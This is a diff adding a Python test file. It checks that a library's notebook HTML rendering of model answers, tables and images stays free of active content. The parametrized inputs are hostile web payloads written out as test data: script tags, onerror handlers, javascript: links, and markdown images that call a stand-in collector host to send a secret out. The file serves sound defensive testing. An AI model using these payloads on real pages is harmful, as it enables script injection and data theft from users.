@@ -1,0 +1,139 @@
+"""Answers and sessions in a notebook: tables, pictures, plans; nothing runs."""
+
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import neuraxis
+from neuraxis import Session, command
+from neuraxis.session import html
+from neuraxis.testing import ScriptedModel
+
+EVIL = "<script>alert(1)</script>"
+_TAGS = {
+    "div", "p", "b", "code", "pre", "table", "thead", "tr", "th", "td", "img", "a",
+    "strong", "em", "ul", "ol", "li", "h1", "tbody", "blockquote", "hr",
+}  # fmt: skip
+
+
+def _is_harmless(page: str) -> None:
+    assert {name.lower() for name in re.findall(r"<\s*/?\s*([^\s>/]+)", page)} <= _TAGS
+    assert not re.search(r"<[^>]*\son\w+\s*=", page)
+    assert set(re.findall(r'src="([^:]*:[^;]*)', page)) <= {
+        "data:image/png",
+        "data:image/svg+xml",
+    }
+    assert not re.search(r'href="\s*(?:javascript|data|vbscript|file):', page, re.I)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        EVIL,
+        "![x](https://collector.example/?secret)",
+        "![x][1]\n\n[1]: https://collector.example/?secret",
+        "[x](javascript:alert(1)) [y](&#106;avascript:alert(1)) [z](data:text/html,x)",
+        '<img src=x onerror="alert(1)">',
+        "| <script> |\n|---|\n| <img src=x> |",
+        '```"><script>\nx\n```',
+        "<https://a.example/\"onmouseover='x'>",
+    ],
+)
+def test_a_text_runs_and_fetches_nothing(text: str) -> None:
+    """Markdown of a model or a page is text, also where it is written as HTML."""
+    page = html.markdown(text)
+    assert "<img" not in page
+    _is_harmless(page)
+
+
+def test_markdown_is_rendered() -> None:
+    """Tables, too."""
+    assert "<strong>best</strong>" in html.markdown("**best**")
+    assert "<td>Turin</td>" in html.markdown("| city |\n|---|\n| Turin |")
+
+
+@pytest.mark.parametrize("text", ["[" * 50_000, "*a " * 30_000, "> " * 40_000])
+def test_a_long_text_takes_no_time(text: str) -> None:
+    """What is nested without end ends."""
+    assert len(html.markdown(text)) < 10 * len(text)
+
+
+def _answer(tmp_path: Path) -> tuple[Session, Any]:
+    polars = pytest.importorskip("polars")
+    image = pytest.importorskip("PIL.Image")
+
+    @command(effects="none")
+    def table() -> polars.DataFrame:
+        """A table."""
+        return polars.DataFrame({EVIL: [EVIL, "x"], "n": [1234.5678, 2.0]})
+
+    @command(effects="none")
+    def picture(of: polars.DataFrame) -> image.Image:
+        """A picture."""
+        return image.new("RGB", (2000, 10), "red")
+
+    plan = '[{"tool": "table"}, {"tool": "picture", "of": "{{ previous_result }}"}]'
+    session = Session(
+        ScriptedModel([plan, f"It is **done**. {EVIL}"]),
+        plugins=[table, picture],
+        workspace=tmp_path,
+    )
+    return session, session.run_sync(f"Draw it {EVIL}")
+
+
+def test_an_answer_shows_its_objects_and_plan(tmp_path: Path) -> None:
+    """Its text, its plan drawn, a table with short numbers, a picture made small."""
+    session, answer = _answer(tmp_path)
+    with session:
+        page = answer._repr_html_()
+        told = session._repr_html_()
+    for shown in (page, told):
+        _is_harmless(shown)
+        assert "<strong>done</strong>" in shown
+        assert "1,234.57" in shown
+        assert "2 rows, 2 columns" in shown
+        assert shown.count("data:image/png") == 1
+    assert page.count("data:image/svg+xml") == 1
+    assert "Draw it &lt;script&gt;" in told
+    assert len(page) < 30_000
+
+
+NOTEBOOK = [
+    """
+import polars
+from neuraxis import Session, command
+from neuraxis.testing import ScriptedModel
+
+@command(effects="none")
+def sales() -> polars.DataFrame:
+    "Sales of all cities."
+    return polars.DataFrame({"city": ["Turin"], "sum": [841.6]})
+
+model = ScriptedModel(['[{"tool": "sales"}]', "Here **they** are."])
+session = Session(model, plugins=[sales])
+""",
+    "await session.run('Show the sales')",
+    "session",
+]
+
+
+def test_a_notebook_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """`await` works in a cell, and what a cell ends with is shown."""
+    pytest.importorskip("polars")
+    pytest.importorskip("ipykernel", reason="needs ipykernel")
+    nbclient = pytest.importorskip("nbclient", reason="needs nbclient")
+    from nbformat import v4
+
+    source = str(Path(neuraxis.__file__).resolve().parents[1])
+    monkeypatch.setenv("PYTHONPATH", source)
+    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
+    book = v4.new_notebook(cells=[v4.new_code_cell(text) for text in NOTEBOOK])
+    folder = {"metadata": {"path": str(tmp_path)}}
+    nbclient.NotebookClient(book, timeout=50, resources=folder).execute()
+    for cell in book.cells[1:]:
+        (shown,) = [output.data["text/html"] for output in cell.outputs]
+        assert "<strong>they</strong>" in shown
+        assert "<td>Turin</td>" in shown
+        _is_harmless(shown)
